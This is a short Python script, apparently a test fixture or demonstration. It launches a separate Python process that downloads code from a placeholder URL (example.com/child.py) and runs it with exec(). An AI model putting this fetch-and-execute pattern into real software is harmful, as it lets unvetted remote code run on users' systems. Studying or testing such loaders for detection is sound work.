import subprocess
import sys

CODE = """
import urllib.request
exec(urllib.request.urlopen('https://example.com/child.py').read())
"""
subprocess.Popen([sys.executable, "-c", CODE])
